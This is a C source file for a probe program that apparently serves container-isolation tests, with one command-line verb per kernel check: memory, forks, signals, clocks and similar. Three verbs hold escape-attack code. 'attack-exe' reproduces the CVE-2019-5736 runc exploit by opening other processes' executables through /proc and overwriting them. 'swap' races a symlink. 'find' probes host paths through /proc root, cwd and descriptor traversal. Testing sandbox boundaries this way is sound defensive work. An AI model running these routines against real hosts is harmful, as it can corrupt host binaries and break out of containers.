// What the tests ask the kernel from inside a container and busybox cannot. One static program, one verb per
// question; answers are one line on stdout. A refused call prints "errno N NAME" and exits 1.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int refused(void) {
  printf("errno %d %s\n", errno, strerrorname_np(errno));
  return 1;
}
static int answer(long value) {
  if (value == -1) return refused();
  printf("%ld\n", value);
  return 0;
}

// syscall NR [ARG...]: the raw call; an argument is a number, or @TEXT for a pointer to TEXT.
static int raw_syscall(int argc, char** argv) {
  long a[6] = {0};
  for (int i = 1; i < argc && i < 7; ++i)
    a[i - 1] = argv[i][0] == '@' ? (long)(argv[i] + 1) : strtol(argv[i], NULL, 0);
  return answer(syscall(strtol(argv[0], NULL, 0), a[0], a[1], a[2], a[3], a[4], a[5]));
}

// open PATH r|w|rw: can it be opened so?
static int open_file(const char* path, const char* how) {
  int flags = !strcmp(how, "r") ? O_RDONLY : !strcmp(how, "w") ? O_WRONLY : O_RDWR;
  int fd = open(path, flags | O_NONBLOCK | O_NOCTTY);
  if (fd < 0) return refused();
  puts("open");
  return 0;
}

// fds: every open descriptor and what it is, one a line.
static int list_descriptors(void) {
  for (int fd = 0; fd < 4096; ++fd) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    char link[64], target[512];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t size = readlink(link, target, sizeof target - 1);
    printf("%d %.*s\n", fd, (int)(size < 0 ? 1 : size), size < 0 ? "?" : target);
  }
  return 0;
}

// memory MIB: touch that much, then say so.
static int use_memory(size_t mib) {
  char* block = mmap(NULL, mib << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (block == MAP_FAILED) return refused();
  for (size_t i = 0; i < mib << 20; i += 4096) block[i] = 1;
  printf("touched %zu\n", mib);
  return 0;
}

// forks N: how many children could be alive at once, and the refusal if it was fewer than asked.
static int count_forks(int wanted) {
  int made = 0, why = 0;
  for (; made < wanted; ++made) {
    pid_t pid = fork();
    if (pid < 0) { why = errno; break; }
    if (pid == 0) { pause(); _exit(0); }
  }
  printf("%d %s\n", made, why ? strerrorname_np(why) : "ok");
  fflush(stdout);
  signal(SIGTERM, SIG_IGN);
  kill(0, SIGTERM);
  return 0;
}

// burn MS: spin for that much wall time; the CPU time got, in ms.
static int burn(long wall_ms) {
  struct timespec start, now, cpu;
  clock_gettime(CLOCK_MONOTONIC, &start);
  do clock_gettime(CLOCK_MONOTONIC, &now);
  while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < wall_ms);
  clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &cpu);
  printf("%ld\n", cpu.tv_sec * 1000 + cpu.tv_nsec / 1000000);
  return 0;
}

static int print_clocks(void) {
  struct timespec mono, boot;
  clock_gettime(CLOCK_MONOTONIC, &mono);
  clock_gettime(CLOCK_BOOTTIME, &boot);
  printf("%ld %ld\n", mono.tv_sec, boot.tv_sec);
  return 0;
}

// scheduler: policy number, nice, real-time priority
static int print_scheduler(void) {
  struct sched_param param;
  sched_getparam(0, &param);
  printf("%d %d %d\n", sched_getscheduler(0) & ~SCHED_RESET_ON_FORK, getpriority(PRIO_PROCESS, 0),
         param.sched_priority);
  return 0;
}

// trap SIGNAL: "ready", then wait for it (up to 20 s) and say "got N".
static volatile sig_atomic_t caught;
static void remember(int number) { caught = number; }
static int trap_signal(int number) {
  signal(number, remember);
  puts("ready");
  fflush(stdout);
  for (int i = 0; i < 2000 && !caught; ++i) usleep(10000);
  printf("got %d\n", (int)caught);
  return caught ? 0 : 1;
}

// attack-exe SECONDS: try to open every other process's executable for writing (CVE-2019-5736), also through
// a descriptor got with O_PATH that outlives the process; says how many could be seen and how many opened.
static int attack_executables(int seconds) {
  int seen = 0, opened = 0;
  time_t end = time(NULL) + seconds;
  while (time(NULL) < end && !opened) {
    for (int pid = 2; pid < 200; ++pid) {
      if (pid == getpid()) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int handle = open(path, O_PATH);
      if (handle < 0) continue;
      char target[512] = "";
      if (readlink(path, target, sizeof target - 1) < 0 || strstr(target, "/bin/") == target) {
        close(handle);
        continue;
      }
      ++seen;
      snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
      for (int tries = 0; tries < 200 && !opened; ++tries) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0) {
          ++opened;
          if (write(fd, "#!/bin/pwned\n", 13) < 0) perror("write");
          printf("opened %s\n", target);
          close(fd);
        } else {
          usleep(500);
        }
      }
      close(handle);
    }
  }
  printf("seen %d opened %d\n", seen, opened);
  return 0;
}

// swap LINK A B SECONDS: the racing half of a symlink attack: LINK points at A and B in turn, fast.
static int swap_link(const char* link, const char* a, const char* b, int seconds) {
  char next[512];
  snprintf(next, sizeof next, "%s.next", link);
  time_t end = time(NULL) + seconds;
  for (int turn = 0; time(NULL) < end; ++turn) {
    unlink(next);
    if (symlink(turn & 1 ? a : b, next) < 0 || rename(next, link) < 0) return refused();
  }
  return 0;
}

// find PATH SECONDS: look for PATH through the root, the working directory and the first descriptors of every
// other process; each kind of way is told once per process, then how many processes were seen.
static int find_through_processes(const char* path, int seconds) {
  enum { pids = 400, descriptors = 12 };
  static char told[pids], seen[pids];
  int count = 0;
  time_t end = time(NULL) + seconds;
  while (time(NULL) < end) {
    for (int pid = 2; pid < pids; ++pid) {
      char way[512];
      struct stat about;
      snprintf(way, sizeof way, "/proc/%d/root", pid);
      if (pid == getpid() || lstat(way, &about) < 0) continue;
      count += !seen[pid];
      seen[pid] = 1;
      for (int n = -2; n < descriptors; ++n) {
        int kind = n == -2 ? 1 : n == -1 ? 2 : 4;
        if (n == -2) snprintf(way, sizeof way, "/proc/%d/root%s", pid, path);
        if (n == -1) snprintf(way, sizeof way, "/proc/%d/cwd/../../../../../..%s", pid, path);
        if (n >= 0) snprintf(way, sizeof way, "/proc/%d/fd/%d/../../../../../..%s", pid, n, path);
        if ((told[pid] & kind) || stat(way, &about) < 0) continue;
        told[pid] |= kind;
        printf("found %s\n", way);
      }
    }
  }
  printf("seen %d\n", count);
  return 0;
}

static int isolated_signals(void) {  // which signals were left blocked or ignored by whoever started us
  int blocked = 0, ignored = 0;
  sigset_t mask;
  sigprocmask(SIG_BLOCK, NULL, &mask);
  for (int n = 1; n < 65; ++n) {
    struct sigaction action;
    if (sigismember(&mask, n) == 1) ++blocked;
    if (sigaction(n, NULL, &action) == 0 && action.sa_handler == SIG_IGN) ++ignored;
  }
  printf("%d %d\n", blocked, ignored);
  return 0;
}

int main(int argc, char** argv) {
  const char* verb = argc > 1 ? argv[1] : "";
  setvbuf(stdout, NULL, _IOLBF, 0);
#define VERB(name, count) (!strcmp(verb, name) && argc >= 2 + (count))
  if (VERB("syscall", 1)) return raw_syscall(argc - 2, argv + 2);
  if (VERB("open", 2)) return open_file(argv[2], argv[3]);
  if (VERB("fds", 0)) return list_descriptors();
  if (VERB("memory", 1)) return use_memory(strtoul(argv[2], NULL, 10));
  if (VERB("forks", 1)) return count_forks(atoi(argv[2]));
  if (VERB("burn", 1)) return burn(atol(argv[2]));
  if (VERB("clocks", 0)) return print_clocks();
  if (VERB("scheduler", 0)) return print_scheduler();
  if (VERB("ioprio", 0)) return answer(syscall(SYS_ioprio_get, 1, 0));
  if (VERB("keyring", 0)) return answer(syscall(SYS_keyctl, 0, -3, 0));
  if (VERB("personality", 0)) return answer(personality(0xffffffff));
  if (VERB("signals", 0)) return isolated_signals();
  if (VERB("trap", 1)) return trap_signal(atoi(argv[2]));
  if (VERB("attack-exe", 1)) return attack_executables(atoi(argv[2]));
  if (VERB("find", 2)) return find_through_processes(argv[2], atoi(argv[3]));
  if (VERB("swap", 4)) return swap_link(argv[2], argv[3], argv[4], atoi(argv[5]));
  if (VERB("dumpable", 0)) return answer(prctl(PR_GET_DUMPABLE));
  if (VERB("exit", 1)) return atoi(argv[2]);
  fprintf(stderr, "probe: unknown verb '%s'\n", verb);
  return 125;
}
